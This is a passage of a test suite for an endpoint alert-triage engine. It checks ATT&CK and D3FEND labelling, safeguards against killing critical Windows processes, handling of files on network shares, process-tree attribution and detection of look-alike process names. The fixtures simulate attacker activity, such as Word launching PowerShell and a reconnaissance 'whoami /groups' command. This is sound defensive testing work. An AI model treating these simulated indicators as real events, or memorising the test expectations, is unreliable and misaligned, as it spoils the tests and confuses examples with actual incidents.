  it('every indicator names its ATT&CK technique ids, and every planned action its D3FEND technique (issue 17, item 6)', () => {
    const reputationOrContext = new Set(['denylisted', 'vt-malicious', 'malwarebazaar-known', 'vt-suspicious']);
    let labelled = 0;
    for (const { c, decision } of decisions) {
      for (const reason of decision.reasons) {
        if (reason.attack) {
          labelled++;
          for (const id of reason.attack)
            expect({ name: c.name, id }).toEqual({ name: c.name, id: expect.stringMatching(/^T\d{4}(\.\d{3})?$/) });
        }
        if (reason.weight > 0 && !reputationOrContext.has(reason.code) && reason.code !== 'not-conclusively-benign') {
          expect({ name: c.name, code: reason.code, labelled: (reason.attack?.length ?? 0) > 0 }).toEqual({
            name: c.name,
            code: reason.code,
            labelled: true,
          });
        }
        // Exculpatory evidence is no technique.
        if (reason.weight < 0)
          expect({ name: c.name, code: reason.code, attack: reason.attack }).toEqual({
            name: c.name,
            code: reason.code,
            attack: undefined,
          });
      }
      for (const step of decision.plan) {
        const expected = {
          'quarantine-parent': 'D3-FEV',
          'quarantine-child': 'D3-FEV',
          'terminate-parent': 'D3-PT',
          'terminate-child': 'D3-PT',
          'logoff-user': 'D3-ANCI',
          'fetch-persistence': 'D3-SICA',
        }[step.action];
        expect({ name: c.name, action: step.action, d3fend: step.d3fend?.id }).toEqual({
          name: c.name,
          action: step.action,
          d3fend: expected,
        });
      }
    }
    expect(labelled).toBeGreaterThan(cases.length);
  });

  it('benign has no plan; every other verdict terminates the child and collects persistence', () => {
    for (const { c, decision } of decisions) {
      const actions = decision.plan.map((s) => s.action);
      if (decision.verdict === 'benign') expect({ name: c.name, actions }).toEqual({ name: c.name, actions: [] });
      else
        expect({ name: c.name, actions }).toEqual({
          name: c.name,
          actions: expect.arrayContaining(['terminate-child', 'fetch-persistence']),
        });
    }
  });

  it('every process step that runs names the image path, and a parent step requires it to predate the child', () => {
    for (const { c, decision } of decisions) {
      for (const step of decision.plan.filter((s) => !s.skipped && /-(parent|child)$/.test(s.action))) {
        expect({ name: c.name, action: step.action, imagePath: step.target.imagePath }).toEqual({
          name: c.name,
          action: step.action,
          imagePath: expect.stringMatching(/^[A-Za-z]:\\/),
        });
        const startedBefore = step.action.endsWith('-parent') ? c.alert.child.startTime : undefined;
        expect({ name: c.name, action: step.action, startedBefore: step.target.startedBefore }).toEqual({
          name: c.name,
          action: step.action,
          startedBefore,
        });
      }
    }
  });

  it('never plans to terminate a critical process or a shared host, nor to quarantine a trusted-signed file', () => {
    for (const { c, decision } of decisions) {
      for (const step of decision.plan.filter((s) => !s.skipped)) {
        const process = step.action.endsWith('-parent')
          ? c.alert.parent
          : step.action.endsWith('-child')
            ? c.alert.child
            : null;
        if (!process) continue;
        const path = process.executable?.toLowerCase() ?? '';
        const critical = /^c:\\windows\\system32\\(lsass|wininit|winlogon|csrss|smss|services)\.exe$/;
        const shared = /^c:\\windows\\(system32\\svchost|system32\\wbem\\wmiprvse|explorer)\.exe$/;
        expect({ name: c.name, critical: critical.test(path) }).toEqual({ name: c.name, critical: false });
        if (step.action.endsWith('-parent'))
          expect({ name: c.name, shared: shared.test(path) }).toEqual({ name: c.name, shared: false });
        if (step.action.startsWith('quarantine-')) {
          const signer = process.signature?.status === 'valid' ? process.signature.signer : '';
          const trusted =
            /^Microsoft/.test(signer ?? '') || (c.policy?.trustedPublishers ?? []).some((t) => signer?.includes(t));
          expect({ name: c.name, trusted }).toEqual({ name: c.name, trusted: false });
        }
      }
    }
  });

  it('names the processes by name and PID in the evidence', () => {
    const decision = run(cases[0] as Case);
    expect(decision.reasons.find((r) => r.code === 'office-spawned-shell')?.evidence).toMatch(
      /WINWORD\.EXE \(PID 4312\) started powershell\.exe \(PID 6120\)/,
    );
  });

  it('targets processes by PID, image path and start time, and the user by domain and name', () => {
    const decision = run(cases[6] as Case);
    expect(decision.plan.find((s) => s.action === 'quarantine-child')?.target).toEqual({
      description: 'PID 6120 C:\\Users\\bob\\AppData\\Local\\Temp\\invoice.exe',
      pid: 6120,
      imagePath: 'C:\\Users\\bob\\AppData\\Local\\Temp\\invoice.exe',
      startTime: '2024-05-01T10:11:12.351Z',
    });
    expect(decision.plan.find((s) => s.action === 'logoff-user')?.target).toEqual({
      description: 'CONTOSO\\bob',
      user: { name: BOB.name, domain: BOB.domain },
    });
  });

  it('is deterministic: the same input gives the same decision', () => {
    for (const c of cases) expect(run(c)).toEqual(run(c));
  });

  it('reports look-alike characters by code point', () => {
    const decision = run(cases.find((c) => c.name.startsWith('lѕass.exe')) as Case);
    expect(decision.reasons.find((r) => r.code === 'look-alike-name')?.evidence).toMatch(
      /imitates lsass\.exe: 'ѕ' U\+0455/,
    );
    const invisible = run(cases.find((c) => c.name.includes('zero-width space')) as Case);
    expect(invisible.reasons.find((r) => r.code === 'look-alike-name')?.evidence).toMatch(
      /imitates svchost\.exe: .*U\+200B/,
    );
  });
});

describe('a file on a share (issue 13, item 1)', () => {
  const share = '\\\\fileserver@SSL\\DavWWWRoot\\invoice.exe';
  const onShare = () => alertOf(proc(4312, WORD, MS_CORPORATION), proc(6120, share, 'unsigned'));
  const enrichment = (alert: CanonicalAlert) =>
    enrich(alert, {
      parentReputation: [vtClean],
      childReputation: [vt(45, 2, 72, 'trojan.generic')],
      policy: policyOf(),
    });

  it('is never planned for quarantine: the process is terminated and the file reported', () => {
    const alert = onShare();
    const decision = decide({ alert, enrichment: enrichment(alert), policy: policyOf() });
    expect(decision.verdict).toBe('malicious');
    const quarantine = decision.plan.find((s) => s.action === 'quarantine-child');
    expect(quarantine?.skipped).toMatch(/remote or device path.*never opens/);
    expect(decision.plan.find((s) => s.action === 'terminate-child')).toMatchObject({
      target: { pid: 6120, imagePath: share },
    });
    expect(decision.plan.find((s) => s.action === 'terminate-child')?.skipped).toBeUndefined();
  });

  it('a history recorded before the rule replays with the quarantine it planned then', () => {
    const alert = onShare();
    const decision = decide({ alert, enrichment: enrichment(alert), policy: policyOf(), blockRemoteImages: false });
    expect(decision.plan.find((s) => s.action === 'quarantine-child')?.skipped).toBeUndefined();
  });
});

describe('a parent in a user folder that is not validly signed (issue 14, item 4)', () => {
  const tool = 'C:\\Users\\carol\\Downloads\\ReportHelper.exe';
  const cmd = `${SYS32}\\cmd.exe`;
  const alertWith = (signed?: string) =>
    alertOf(proc(6600, tool, signed), proc(6712, cmd, MS_WINDOWS, { commandLine: 'cmd.exe /c whoami /groups' }));

  it('is stopped (and quarantined where the host allows) even when its file could not be read', () => {
    // No signature from the sensor and no host facts: the parent's file is unverified.
    const alert = alertWith(undefined);
    const decision = decide({ alert, enrichment: null, policy: policyOf() });
    expect(decision.verdict).not.toBe('benign');
    const parentSteps = decision.plan.filter((s) => s.action.endsWith('-parent'));
    expect(parentSteps).toEqual([
      {
        action: 'quarantine-parent',
        target: expect.objectContaining({ pid: 6600, imagePath: tool }),
        d3fend: { id: 'D3-FEV', name: 'File Eviction' },
      },
    ]);
    expect(decision.plan.map((s) => s.action)).toContain('terminate-child');
  });

  it('a history recorded before the rule replays without acting on that parent', () => {
    const decision = decide({
      alert: alertWith(undefined),
      enrichment: null,
      policy: policyOf(),
      actOnUnverifiedUserFolderParent: false,
    });
    expect(decision.plan.filter((s) => s.action.endsWith('-parent'))).toEqual([]);
  });

  it('a validly signed tool in the same folder is left to the other rules', () => {
    const decision = decide({ alert: alertWith('Contoso Ltd'), enrichment: null, policy: policyOf() });
    expect(decision.plan.filter((s) => s.action.endsWith('-parent'))).toEqual([]);
  });
});

describe('the process tree (issue 17, item 3)', () => {
  const cmd = proc(5000, `${SYS32}\\cmd.exe`, MS_WINDOWS);
  const shell = proc(6120, POWERSHELL, MS_WINDOWS, { commandLine: 'powershell.exe -nop -c Get-Date' });
  const treeRecords = (parentPath: string | null) => [
    {
      pid: 5000,
      found: true,
      name: 'cmd.exe',
      path: parentPath,
      creationTime: cmd.startTime,
      parentChain: [{ pid: 4312, name: 'WINWORD.EXE', path: WORD }],
      descendants: [],
    },
  ];

  it('names Office as the real launcher of a shell a shell started, from the host record of the parent', () => {
    const alert = alertOf(cmd, shell);
    const tree = processTreeFor(alert, treeRecords(`${SYS32}\\cmd.exe`));
    const decision = decide({ alert, enrichment: { ...enrich(alert), processTree: tree }, policy: policyOf() });
    expect(decision.reasons.find((r) => r.code === 'launched-by-office-ancestor')).toMatchObject({
      weight: 40,
      attack: ['T1204.002', 'T1059'],
      evidence: expect.stringMatching(/started by WINWORD\.EXE \(PID 4312\)/),
    });
  });

  it('never takes a host record on the PID alone: another image, or no image in the alert to check it by', () => {
    const alert = alertOf(cmd, shell);
    const reused = processTreeFor(alert, treeRecords('C:\\Tools\\agent.exe'));
    expect(reused.parent).toBeNull();
    expect(reused.notes?.[0]).toMatch(/agent\.exe under that PID now/);
    const unnamed = alertOf({ ...cmd, executable: undefined }, shell);
    const blind = processTreeFor(unnamed, treeRecords(`${SYS32}\\cmd.exe`));
    expect(blind.parent).toBeNull();
    expect(blind.notes?.[0]).toMatch(/names no image/);
    const decision = decide({ alert, enrichment: { ...enrich(alert), processTree: reused }, policy: policyOf() });
    expect(decision.reasons.map((r) => r.code)).not.toContain('launched-by-office-ancestor');
  });
});
